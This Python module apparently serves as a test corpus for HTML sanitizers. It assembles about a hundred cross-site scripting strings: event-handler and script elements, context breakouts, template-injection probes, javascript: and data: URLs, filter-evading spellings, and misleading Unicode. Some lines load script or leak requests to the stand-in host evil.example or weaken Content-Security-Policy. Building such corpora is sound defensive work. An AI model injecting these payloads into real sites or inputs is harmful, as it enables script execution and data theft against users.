"""A hundred texts that turn into something else wherever a page takes text for markup, script, address or style.

They are put together from parts, so that what is tried can be seen at a glance: elements that run something by
themselves, ways out of the place where text stands, schemes, spellings that filters miss, misleading characters.
"""

from typing import Final

_RUN: Final = "alert(1)"

_ELEMENTS: Final = (
    "<script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{run}</script>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={run}></style>",
    "<img src=x onerror={run}>",
    "<img srcset=x onerror={run}>",
    "<img src=//evil.example/pixel>",
    "<picture><source srcset=x><img onerror={run} src=x></picture>",
    "<video src=x onerror={run}></video>",
    "<video><source onerror={run} src=x></video>",
    "<audio src=x onerror={run}></audio>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<div tabindex=0 autofocus onfocus={run}>x</div>",
    "<marquee onstart={run}>x</marquee>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<isindex action=javascript:{run} type=image>",
    "<keygen autofocus onfocus={run}>",
    "<base href=//evil.example>",
    "<base href=javascript:/{run}//>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/leak>",
    "<style>*{{background:url(//evil.example/css)}}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url('javascript:{run}')\">x</div>",
    '<div style="position:fixed;inset:0;background:red">x</div>',
    "<table background=javascript:{run}><tr><td>x</table>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<portal src=javascript:{run}></portal>",
    "<dialog open onclose={run}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<x contenteditable autofocus onfocus={run}>x",
    "<custom-element onpointerenter={run}>x</custom-element>",
)
_WAYS_OUT: Final = ('">', "'>", "</td></table>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "`>")
_SCRIPT_TEXTS: Final = (
    "'-{run}-'",
    '"-{run}-"',
    "\\'-{run}//",
    "${{{run}}}",
    "`+{run}+`",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{7*7}}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "[[${{{run}}}]]",
    "</script><script>{run}</script>",
    "\u2028{run}\u2029",
)
_ADDRESSES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{run}",
    "view-source:javascript:{run}",
    "//evil.example/x",
)
_SPELLINGS: Final = (
    "<ScRiPt>{run}</sCrIpT>",
    "<script\x0c>{run}</script>",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img/src=x/onerror={run}>",
    "<img src=x onerror=&#97;lert(1)>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
)
_EYES: Final = (
    "\u202egnp.tset",
    "line\nbreak\x1b[31mred",
    "a\u0300\u0301\u0302\u0303" * 20,
    "\u200b\u2066hidden\u2069",
)

_FORMS: Final = (
    *_ELEMENTS,
    *(way + "<img src=x onerror={run}>" for way in _WAYS_OUT),
    *_SCRIPT_TEXTS,
    *_ADDRESSES,
    *_SPELLINGS,
)

ATTACKS: Final = (*(form.format(run=_RUN) for form in _FORMS), *_EYES)
